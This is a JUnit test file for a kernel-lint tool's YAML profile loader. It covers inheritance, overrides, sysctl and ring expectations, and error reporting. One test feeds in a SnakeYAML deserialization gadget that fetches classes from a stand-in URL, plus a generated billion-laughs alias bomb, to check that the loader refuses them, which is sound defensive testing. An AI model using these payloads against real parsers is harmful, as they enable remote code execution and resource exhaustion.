package dev.kernlint.profile;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.kernlint.engine.Severity;
import dev.kernlint.fact.ExpectedRing;
import dev.kernlint.fact.ExpectedSysctl;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class ProfileLoaderTest {
    @TempDir
    Path dir;

    private Path file(String name, String text) throws IOException {
        Path p = dir.resolve(name);
        Files.createDirectories(p.getParent());
        Files.writeString(p, text);
        return p;
    }

    private Profile load(String text) throws IOException {
        return ProfileLoader.load(file("p.yaml", text).toString());
    }

    private ProfileException refused(String text) throws IOException {
        Path p = file("bad.yaml", text);
        return assertThrows(ProfileException.class, () -> ProfileLoader.load(p.toString()));
    }

    private static ExpectedSysctl sysctl(Profile p, String key) {
        return p.sysctl().stream().filter(e -> e.key().equals(key)).findFirst().orElse(null);
    }

    @Test
    void childOverridesEachEntryOfItsParentAndKeepsTheRest() throws IOException {
        Profile p = load("""
                extends: default
                thresholds:
                  NET-TW-PORT-EXHAUSTION: {warn: 0.3}
                sysctl:
                  fs.file-max: ">= 1000000"
                  vm.swappiness: "<= 10"
                """);
        assertEquals(0.3, p.thresholds().get("NET-TW-PORT-EXHAUSTION").get("warn"));
        assertEquals(0.8, p.thresholds().get("NET-TW-PORT-EXHAUSTION").get("crit"), "the parent's other threshold stays");
        assertEquals(1_000_000, sysctl(p, "fs.file-max").boundValue());
        assertEquals(List.of("1"), sysctl(p, "net.ipv4.tcp_syncookies").allowed(), "inherited from default");
        assertEquals("<=", sysctl(p, "vm.swappiness").bound());
        assertEquals(List.of(dir.resolve("p.yaml").toString(), "profiles/default.yaml"), p.lineage());
    }

    @Test
    void nullDropsAnInheritedExpectation() throws IOException {
        Profile p = load("extends: default\nsysctl:\n  fs.file-max: ~\n");
        assertNull(sysctl(p, "fs.file-max"));
        assertTrue(sysctl(p, "vm.max_map_count") != null);
    }

    @Test
    void ruleSettingsMergeKeyByKey() throws IOException {
        file("base.yaml", "extends: default\nrules:\n  NET-TW-RECYCLE: {enabled: false}\n");
        Profile p = load("extends: base\nrules:\n  NET-TW-RECYCLE: {severity: info}\n  NIC-RING-BELOW-MAX: {enabled: false}\n");
        assertFalse(p.enabled("NET-TW-RECYCLE"), "the child only changed the severity");
        assertEquals(Severity.INFO, p.severityOverride("NET-TW-RECYCLE"));
        assertFalse(p.enabled("NIC-RING-BELOW-MAX"));
        assertTrue(p.enabled("NET-SOMAXCONN-LOW"));
    }

    @Test
    void baselineSeverityOfTheChildAppliesToInheritedExpectations() throws IOException {
        Profile p = load("""
                extends: default
                baseline_severity: critical
                sysctl:
                  vm.swappiness: {expect: "<= 10", severity: info}
                """);
        assertEquals("critical", sysctl(p, "net.ipv4.tcp_syncookies").severity());
        assertEquals("info", sysctl(p, "vm.swappiness").severity(), "an entry's own severity wins");
        assertEquals("warning", sysctl(ProfileLoader.load("default"), "net.ipv4.tcp_syncookies").severity());
    }

    @Test
    void expectationForms() throws IOException {
        Profile p = load("""
                extends: default
                sysctl:
                  net.ipv4.ip_local_port_range: "1024   65535"
                  net.ipv4.tcp_tw_reuse: [1, 2]
                  kernel.sched_rt_runtime_us: ">=-1"
                  kernel.shmmax: ">= 4096"
                  net.ipv4.tcp_congestion_control: bbr
                """);
        assertTrue(sysctl(p, "net.ipv4.ip_local_port_range").accepts("1024\t65535"));
        assertTrue(sysctl(p, "net.ipv4.tcp_tw_reuse").accepts("2"));
        assertFalse(sysctl(p, "net.ipv4.tcp_tw_reuse").accepts("0"));
        assertTrue(sysctl(p, "kernel.sched_rt_runtime_us").accepts("-1"));
        assertTrue(sysctl(p, "kernel.shmmax").accepts("18446744073692774399"), "unsigned 64-bit values compare as numbers");
        assertTrue(sysctl(p, "net.ipv4.tcp_congestion_control").accepts("bbr"));
        assertFalse(sysctl(p, "net.ipv4.tcp_congestion_control").accepts("cubic"));
    }

    @Test
    void ringsWithWildcardSpecificAndRemoval() throws IOException {
        file("base.yaml", "extends: default\nrings:\n  \"*\": {rx: max, tx: max}\n  eth9: {rx: 512}\n");
        Profile p = load("""
                extends: base
                rings:
                  eth0: {rx: ">= 1024", severity: critical}
                  eth9: ~
                """);
        assertEquals(3, p.rings().size(), "* rx, * tx, eth0 rx; eth9 dropped: " + p.rings());
        ExpectedRing eth0 = p.rings().stream().filter(r -> r.iface().equals("eth0")).findFirst().orElseThrow();
        assertEquals(">=", eth0.op());
        assertEquals(1024, eth0.value());
        assertEquals("critical", eth0.severity());
        assertTrue(p.rings().stream().filter(r -> r.iface().equals("*")).allMatch(r -> r.op().equals("max") && r.severity().equals("warning")));
    }

    @Test
    void extendsResolvesPathsAgainstTheExtendingFile() throws IOException {
        file("teams/base.yaml", "extends: default\nsysctl:\n  vm.swappiness: 1\n");
        file("teams/web/app.yaml", "extends: ../base.yaml\n");
        Profile p = ProfileLoader.load(dir.resolve("teams/web/app.yaml").toString());
        assertEquals(List.of("1"), sysctl(p, "vm.swappiness").allowed());
        assertEquals("app", p.name(), "the name defaults to the file name");
    }

    @Test
    void cycleNamesTheWholeChain() throws IOException {
        file("a.yaml", "extends: b\n");
        file("b.yaml", "name: b\nextends: c.yaml\n");
        file("c.yaml", "extends: a\n");
        ProfileException e = assertThrows(ProfileException.class, () -> ProfileLoader.load(dir.resolve("a.yaml").toString()));
        String a = dir.resolve("a.yaml").toString();
        assertEquals(dir.resolve("c.yaml") + ":1: extends cycle: " + a + " -> " + dir.resolve("b.yaml") + " -> "
                + dir.resolve("c.yaml") + " -> " + a, e.getMessage());
    }

    @Test
    void selfExtensionIsACycle() throws IOException {
        ProfileException e = refused("extends: bad.yaml\n");
        assertTrue(e.getMessage().contains("extends cycle"), e.getMessage());
    }

    @Test
    void unknownParentSaysWhereAndWhatExists() throws IOException {
        ProfileException e = refused("name: x\nextends: web-servr\n");
        assertTrue(e.getMessage().startsWith(dir.resolve("bad.yaml") + ":2: extends: no profile named 'web-servr'"), e.getMessage());
        assertTrue(e.getMessage().contains("web-server"), "lists the bundled profiles: " + e.getMessage());
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
            "thresholds: {X: {warn: .nan}}|3|thresholds.X.warn must be a number",
            "thresholds: {X: {warn: 1d}}|3|thresholds.X.warn must be a number",
            "thresholds: {X: {warn: 50%}}|3|thresholds.X.warn must be a number",
            "rules: {X: {enabled: maybe}}|3|rules.X.enabled must be true or false",
            "rules: {X: {enabled: 'true'}}|3|rules.X.enabled must be true or false",
            "rules: {X: {severity: fatal}}|3|severity must be info, warning or critical",
            "rules: {X: {mute: true}}|3|rules.X: unknown key 'mute'",
            "sysctl: {vm.swappiness: off}|3|YAML boolean",
            "sysctl: {vm.swappiness: '=> 10'}|3|is not a bound",
            "sysctl: {vm.swappiness: '>= ten'}|3|is not a bound",
            "sysctl: {vm.swappiness: '>= 99999999999999999999'}|3|out of range",
            "sysctl: {vm.swappiness: []}|3|empty list",
            "sysctl: {vm.swappiness: {severity: critical}}|3|needs 'expect'",
            "sysctl: {vm.swappiness: {expect: 1, level: 2}}|3|unknown key 'level'",
            "sysctl: {/proc/sys/vm/swappiness: 1}|3|write it as sysctl prints it (vm.swappiness)",
            "sysctl: {swappiness: 1}|3|not a kernel parameter name",
            "rings: {eth0: {rx: huge}}|3|must be max, a size",
            "rings: {eth0: {rx: 0}}|3|is not a ring size",
            "rings: {eth0: {severity: info}}|3|needs rx or tx",
            "rings: {eth0: {mtu: 9000}}|3|unknown key 'mtu'",
            "rings: {'eth 0': {rx: max}}|3|not an interface name",
            "sysctl: [vm.swappiness]|3|sysctl must be a map",
            "colour: blue|3|unknown key 'colour'",
            "name: ~|3|name needs a value",
    })
    void badValuesNameFileLineAndWhatIsWrong(String yaml, int line, String expected) throws IOException {
        ProfileException e = refused("# a profile\nextends: default\n" + yaml + "\n");
        assertTrue(e.getMessage().startsWith(dir.resolve("bad.yaml") + ":" + line + ": "), e.getMessage());
        assertTrue(e.getMessage().contains(expected), e.getMessage());
    }

    @Test
    void unsafeYamlIsRefused() throws IOException {
        ProfileException tag = refused("sysctl: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n");
        assertTrue(tag.getMessage().contains("not allowed"), tag.getMessage());
        StringBuilder bomb = new StringBuilder("a: &a [x, x, x, x, x, x, x, x, x]\n");
        for (char c = 'b'; c <= 'z'; c++) {
            bomb.append(c).append(": &").append(c).append(" [*").append((char) (c - 1)).append(", *").append((char) (c - 1)).append("]\n");
        }
        assertThrows(ProfileException.class, () -> ProfileLoader.load(file("bomb.yaml", bomb.toString()).toString()));
        ProfileException dup = refused("extends: default\nextends: default\n");
        assertTrue(dup.getMessage().contains(":2:") && dup.getMessage().contains("duplicate"), dup.getMessage());
        ProfileException broken = refused("sysctl:\n  vm.swappiness: [1, 2\n");
        assertTrue(broken.getMessage().startsWith(dir.resolve("bad.yaml") + ":"), broken.getMessage());
    }

    @Test
    void missingFileAndBadName() {
        assertEquals("nope/x.yaml: no such profile file",
                assertThrows(ProfileException.class, () -> ProfileLoader.load("nope/x.yaml")).getMessage());
        assertTrue(assertThrows(ProfileException.class, () -> ProfileLoader.load("no-such-role")).getMessage()
                .startsWith("no profile named 'no-such-role' (bundled: default, web-server"));
    }

    @Test
    void emptyFileIsAnEmptyProfile() throws IOException {
        Profile p = load("");
        assertTrue(p.sysctl().isEmpty());
        assertEquals("p", p.name());
    }
}
